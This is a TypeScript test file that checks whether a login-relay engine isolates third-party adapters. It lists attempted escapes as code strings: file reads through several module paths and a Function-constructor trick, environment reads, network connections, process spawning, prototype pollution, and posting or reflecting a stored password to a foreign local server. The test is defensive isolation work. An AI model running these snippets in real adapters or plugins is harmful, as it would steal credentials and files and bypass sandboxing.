import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import t from 'tap'
import type { Login } from '../../../relay/login/index.ts'
import { serve } from '../../sites/serve.ts'
import { signIn, startEngine } from '../engine-for-test.ts'

const canary = 'canary-7f3a9b'

/** What an adapter may try, as the body of its `signIn`; what it gives is told as evidence. */
const attempts: Readonly<Record<string, string>> = {
  'read a file by a module': `const { readFileSync } = await import('node:fs'); return readFileSync(settings.file, 'utf8')`,
  'read a file by an import': `return JSON.stringify(await import(settings.file))`,
  'read a file by a built-in module of another way': `return process.getBuiltinModule('fs').readFileSync(settings.file, 'utf8')`,
  'read a file by require': `const { createRequire } = await import('node:module'); return createRequire(import.meta.url)('node:fs').readFileSync(settings.file, 'utf8')`,
  'read a file by code of its own making': `return ({}).constructor.constructor('return process')().getBuiltinModule('fs').readFileSync(settings.file, 'utf8')`,
  'read the environment': `return process.env.ISOLATION_CANARY`,
  'read the environment by a module': `return (await import('node:process')).env.ISOLATION_CANARY`,
  'open a connection': `const net = await import('node:net'); await new Promise((r, j) => net.connect(new URL(settings.foreign).port, '127.0.0.1').on('connect', r).on('error', j)); return '${canary}'`,
  'fetch an address': `return (await (await fetch(settings.foreign)).text())`,
  'open a web socket': `new WebSocket(settings.foreign.replace('http', 'ws')); return '${canary}'`,
  'start a process': `const { execSync } = await import('node:child_process'); return execSync('echo ${canary}').toString()`,
  'start a thread': `const { Worker } = await import('node:worker_threads'); new Worker('1', { eval: true }); return '${canary}'`,
  'signal another process': `process.kill(process.ppid, 0); return '${canary}'`,
  'import code from an address': `return (await import('data:text/javascript,export default "${canary}"')).default`,
  "use the relay's own port": `const { Port } = await import(settings.port); return Port === undefined ? '' : '${canary}'`,
  'change what all code stands on': `Object.prototype.canary = '${canary}'; return ({}).canary`,
  'turn a handle into a value': `const one = secrets.password; return [String(one), JSON.stringify(one), \`\${one}\`, ...Object.values(one), ...Reflect.ownKeys(one).map((key) => one[key])].join()`,
  "use another site's address": `return (await browser.open(settings.foreign)).text`,
  'post the password to another site': `await browser.postFields(settings.foreign, { p: secrets.password }); return '${canary}'`,
  'post the password to another site as JSON': `await browser.postJson(settings.foreign, { p: secrets.password }); return '${canary}'`,
  'send the password by a form that leads to another site': `const page = await browser.open(site.loginUrl); await page.forms[1].fill('p', secrets.password).submit(); return '${canary}'`,
  'read the password where the site says it': `const page = await browser.open(site.loginUrl); const said = await page.forms[0].fill('p', secrets.password).submit(); return spelled(said.text + said.body + said.query('p')[0].text + said.forms[0].fields[0].value)`,
  'read the password in addresses and names that say it': `const page = await browser.open(site.loginUrl); const said = await page.forms[0].fill('p', secrets.password).submit(); const [image] = said.images(); const [, form] = said.forms; return spelled([said.links[0].url, said.frames[0], form.action, form.id, form.name, form.fields[0].id, form.fields[0].name, image.src, image.id, image.className, said.title].join(' '))`,
  'keep a secret for the next account': `const kept = globalThis.kept ?? secrets.password; globalThis.kept = kept; if (kept === secrets.password) return 'first'; const page = await browser.open(site.loginUrl); await page.forms[0].fill('p', kept).submit(); return '${canary}'`,
}

const spelled = (text: string) => [...text].join('.')
const nameOf = (attempt: string) => attempt.replace(/[^a-z]+/g, '-')

t.test('an adapter that tries what it must not', async (t) => {
  let reached = 0
  const foreign = await serve(() => {
    reached += 1
    return { body: canary }
  })
  const seen: string[] = []
  const site = await serve(({ body: sent }) => {
    const body = sent.toString()
    if (body !== '') seen.push(body)
    const said = new URLSearchParams(body).get('p') ?? ''
    return {
      body: `<p>You said ${said}</p><form method=post><input name=p value="${said}"></form><form method=post action="${foreign.origin}/?${said}" id="i-${said}" name="n-${said}"><input name="p${said}" id="f-${said}" autocomplete="a-${said}"></form>
<title>[secret] ${said}</title><a href="/?pw=${said}">again</a><iframe src="/frame?${said}"></iframe><img src="/captcha?${said}" id="c-${said}" class="d-${said}">`,
    }
  })
  t.teardown(() => Promise.all([foreign.stop(), site.stop()]))
  process.env.ISOLATION_CANARY = canary
  t.teardown(() => {
    delete process.env.ISOLATION_CANARY
  })

  const folder = t.testdir({ outside: { 'data.json': JSON.stringify({ canary }) }, adapters: {} })
  const adaptersFolder = join(folder, 'adapters')
  // One file for all: what one attempt breaks must not be what stops the next.
  await writeFile(
    join(adaptersFolder, 'attempts.ts'),
    `import { defineAdapter } from 'login-relay/adapters'
import { z } from 'zod'
// What it gives is scrubbed once more: so it is told what the adapter itself has seen.
const spelled = (text: string) => [...text].join('.')
const attempts: Record<string, (context: any) => Promise<string>> = {
${Object.entries(attempts)
  .map(([attempt, body]) => `  ${JSON.stringify(nameOf(attempt))}: async ({ browser, site, settings, secrets }) => { ${body} },`)
  .join('\n')}
}
export default defineAdapter({
  name: 'attempts', api: 1, description: 'x', settings: z.record(z.string(), z.string()),
  signIn: async (context) => ({ evidence: [String(await attempts[context.settings.attempt](context))] }),
  isSignedIn: async () => true, signOut: async () => false,
})`,
  )
  const login = await startEngine(t, { adaptersFolder })
  const settings = {
    file: join(folder, 'outside', 'data.json'),
    foreign: `${foreign.origin}/`,
    port: new URL('../../../relay/login/isolation/child/port.ts', import.meta.url).href,
  }
  const attemptAt = (engine: Login, attempt: string) =>
    signIn(engine, { url: site.url, username: 'ann', password: canary, adapter: 'attempts', settings: { ...settings, attempt: nameOf(attempt) } })

  for (const attempt of Object.keys(attempts)) {
    t.test(`does not ${attempt}`, async (t) => {
      if (attempt.startsWith('keep')) await attemptAt(login, attempt)
      const outcome = await attemptAt(login, attempt)
      t.notMatch(JSON.stringify(outcome), canary)
      t.notMatch(JSON.stringify(outcome), spelled(canary))
      if (attempt.startsWith('turn')) t.match(outcome, { ok: true, evidence: [/\[secret\]/] }, 'it sees the handle')
      else if (attempt.startsWith('read the password')) t.match(JSON.stringify(outcome), spelled('[secret]'))
      else t.match(outcome, { ok: false, kind: 'unknown' })
    })
  }

  await t.test('and the other site has seen nothing of it, while its own has', async (t) => {
    t.equal(reached, 0)
    t.same(seen, [`p=${canary}`, `p=${canary}`], 'by the two that send it where it was to be sent')
  })
})
